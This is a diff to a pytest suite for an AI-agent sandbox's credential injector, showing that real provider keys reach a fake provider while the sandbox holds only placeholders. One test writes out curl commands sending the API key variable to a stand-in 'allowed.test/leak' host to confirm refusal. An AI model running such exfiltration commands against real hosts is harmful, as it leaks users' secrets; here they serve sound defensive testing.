@@ -1,7 +1,9 @@
 # SPDX-License-Identifier: GPL-3.0-or-later
 """Provider keys injected outside the sandbox, with real traffic: a fake model provider in
 the test internet serves HTTPS with a test CA that the workstation (the session's
-injector) trusts and the sandbox does not; it logs the headers it gets."""
+injector) trusts and the sandbox does not; it logs the headers it gets. Every session
+runs over both gate paths (gate_path): on tcp-forward the injector's port is forwarded
+(-T) beside the gate's."""
 
 import base64
 import json
@@ -15,7 +17,7 @@ import pytest
 
 from providers import NAME as PROVIDER, PORT as PROVIDER_PORT, fake_provider
 from scenario import ANSIBLE_ENV, operator_vars
-from sessions import record_of, record_path
+from sessions import record_of, record_path, sandbox_network, through
 
 PROJECT = "/home/dev/src/credentials"
 ANSWER = "FAKE-MODEL-ANSWER-" + uuid.uuid4().hex[:8]
@@ -35,9 +37,9 @@ def credential(source, **extra):
     return entry
 
 
-def session_argv(ws, credentials, *extra, command=None, prompt=None):
+def session_argv(ws, credentials, gate_path, *extra, command=None, prompt=None):
     argv = ["ansible-playbook", "aisb.sandbox.run_agent", "-e", operator_vars(ws), "-e", f"project={PROJECT}",
-            "-e", json.dumps({"aisb_credentials": credentials})]
+            "-e", json.dumps({"aisb_credentials": credentials}), *through(gate_path)]
     if command is not None:
         argv += ["-e", json.dumps({"command": command})]
     if prompt is not None:
@@ -45,9 +47,9 @@ def session_argv(ws, credentials, *extra, command=None, prompt=None):
     return argv + list(extra)
 
 
-def run(ws, credentials, *extra, env=None, **kwargs):
-    return ws.run(session_argv(ws, credentials, *extra, **kwargs), check=False, env=dict(ANSIBLE_ENV, **(env or {})),
-                  timeout=600)
+def run(ws, credentials, gate_path, *extra, env=None, **kwargs):
+    return ws.run(session_argv(ws, credentials, gate_path, *extra, **kwargs), check=False,
+                  env=dict(ANSIBLE_ENV, **(env or {})), timeout=600)
 
 
 def record_text(ws, output):
@@ -71,7 +73,7 @@ def host_argv_lines(ws):
     return ws.run(["ps", "-e", "-ww", "-o", "args="], user="root", check=False).stdout
 
 
-def test_the_provider_gets_the_key_and_the_sandbox_only_a_placeholder(workstation, provider):
+def test_the_provider_gets_the_key_and_the_sandbox_only_a_placeholder(workstation, provider, gate_path):
     before = len(provider.requests())
     url = f'"$AISB_CREDENTIAL_PROXY/{PROVIDER}:{PROVIDER_PORT}/v1/echo"'
     script = ('curl -sS -H "authorization: Bearer $ANTHROPIC_API_KEY" -H "x-api-key: sent-by-the-agent" ' + url + '; '
@@ -82,7 +84,7 @@ def test_the_provider_gets_the_key_and_the_sandbox_only_a_placeholder(workstatio
     # would otherwise pass through as it is.
     argv = session_argv(workstation, [credential({"from_environment": "ANTHROPIC_API_KEY"},
                                                  header="authorization", prefix="Bearer ")],
-                        "-vvv", command=["bash", "-c", script])
+                        gate_path, "-vvv", command=["bash", "-c", script])
     # Its output to a file: -vvv would fill a pipe nobody reads while the session runs.
     with tempfile.TemporaryFile("w+") as out:
         session = subprocess.Popen(workstation.command(argv, env=dict(ANSIBLE_ENV, ANTHROPIC_API_KEY=KEY)),
@@ -112,18 +114,24 @@ def test_the_provider_gets_the_key_and_the_sandbox_only_a_placeholder(workstatio
     assert "without=403" in transcript
     for where, text in (("record", record), ("transcript", transcript), ("ansible output", output)):
         assert KEY not in text, "the key is in the " + where
+    network = sandbox_network(json.loads(record))
+    # The gate's port and the injector's: both forwarded on tcp-forward, both on the mapped address otherwise.
+    if gate_path == "tcp-forward":
+        assert network.startswith("pasta:-4,-T,") and network.count(",-T,") == 2, network
+    else:
+        assert network.startswith("pasta:--map-host-loopback,") and "-T" not in network, network
     injected = json.loads(record)["credentials"]["injected"]
     assert [(e["host"], e["status"]) for e in injected] == [(f"{PROVIDER}:{PROVIDER_PORT}", 200)]
 
 
-def test_the_placeholder_sent_elsewhere_is_refused_and_recorded(workstation, internet, provider):
+def test_the_placeholder_sent_elsewhere_is_refused_and_recorded(workstation, internet, provider, gate_path):
     before = len(internet.requests())
     script = ('for h in "x-api-key: $ANTHROPIC_API_KEY" "Authorization: Bearer $ANTHROPIC_API_KEY"; do '
               'curl -s -o /dev/null -w "elsewhere=%{http_code}\\n" -H "$h" http://allowed.test/leak; done; '
               'curl -s -o /dev/null -w "url=%{http_code}\\n" "http://allowed.test/leak?k=$ANTHROPIC_API_KEY"; '
               'curl -s -o /dev/null -w "clean=%{http_code}\\n" http://allowed.test/clean')
-    result = run(workstation, [credential({"value": KEY})], "-e", json.dumps({"aisb_allow": ["allowed.test"]}),
-                 command=["bash", "-c", script])
+    result = run(workstation, [credential({"value": KEY})], gate_path,
+                 "-e", json.dumps({"aisb_allow": ["allowed.test"]}), command=["bash", "-c", script])
     assert result.returncode == 0, result.stdout[-4000:]
     record = record_of(workstation, result.stdout)
     transcript = workstation.path(record["transcript"]).read_text()
@@ -134,26 +142,27 @@ def test_the_placeholder_sent_elsewhere_is_refused_and_recorded(workstation, int
     assert len(elsewhere) == 3 and all("allowed.test/leak" in e["url"] for e in elsewhere), elsewhere
 
 
-def test_a_key_from_a_file_only_the_user_can_read(workstation, provider):
+def test_a_key_from_a_file_only_the_user_can_read(workstation, provider, gate_path):
     path = "/home/dev/.provider-key"
-    workstation.run(["sh", "-c", f"umask 077 && printf '%s\\n' {KEY} >{path}"])
+    # Written afresh (the other gate path's run left it group-readable).
+    workstation.run(["sh", "-c", f"rm -f {path} && umask 077 && printf '%s\\n' {KEY} >{path}"])
     script = f'curl -sS -H "x-api-key: $ANTHROPIC_API_KEY" "$AISB_CREDENTIAL_PROXY/{PROVIDER}:{PROVIDER_PORT}/f"'
     before = len(provider.requests())
-    result = run(workstation, [credential({"from_file": path})], command=["bash", "-c", script])
+    result = run(workstation, [credential({"from_file": path})], gate_path, command=["bash", "-c", script])
     assert result.returncode == 0, result.stdout[-4000:]
     got = provider.requests()[before:]
     assert [dict((k.lower(), v) for k, v in r["headers"])["x-api-key"] for r in got] == [KEY]
 
     workstation.run(["chmod", "0640", path])
-    result = run(workstation, [credential({"from_file": path})], command=["true"])
+    result = run(workstation, [credential({"from_file": path})], gate_path, command=["true"])
     assert result.returncode != 0
     assert "aisb_credentials[0]" in result.stdout and "group or others" in result.stdout, result.stdout[-3000:]
     assert KEY not in result.stdout
 
 
-def test_pi_answers_through_the_injecting_path(workstation, provider):
+def test_pi_answers_through_the_injecting_path(workstation, provider, gate_path):
     before = len(provider.requests())
-    result = run(workstation, [credential({"from_environment": "AISB_TEST_PROVIDER_KEY"})],
+    result = run(workstation, [credential({"from_environment": "AISB_TEST_PROVIDER_KEY"})], gate_path,
                  env={"AISB_TEST_PROVIDER_KEY": KEY}, prompt="Say the answer.")
     record = record_of(workstation, result.stdout)
     transcript = workstation.path(record["transcript"]).read_text()
